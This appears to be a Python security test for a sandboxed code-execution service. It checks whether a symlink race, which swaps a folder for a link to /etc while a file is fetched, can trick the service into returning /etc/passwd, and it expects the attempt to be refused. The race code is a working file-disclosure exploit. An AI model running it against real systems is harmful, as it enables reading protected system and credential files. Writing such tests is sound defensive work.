"""Win the race of a path
tries: a folder exchanged for a link to /etc, again and again, while it is read
expect: refused: its own file or nothing
"""
from client import *


def attack(api):
    with api.session() as path:
        api.execute(path, "import os; os.mkdir('d'); open('d/passwd', 'w').write('mine')")
        identifier = api.files(path)["/mnt/data/d/passwd"]
        swapping = threading.Thread(target=lambda: api.execute(
            path, "import os, time\nend = time.monotonic() + 1.5\nwhile time.monotonic() < end:\n"
            "    os.rename('d', 'e'); os.symlink('/etc', 'd'); os.unlink('d'); os.rename('e', 'd')", timeout=10))
        swapping.start()
        won = False
        while swapping.is_alive():
            won = won or b"root:" in api.get(f"{path}/files/{identifier}/content").body
        swapping.join()
    if won:
        return "it read /etc/passwd"
    raise Contained("its own file or nothing")
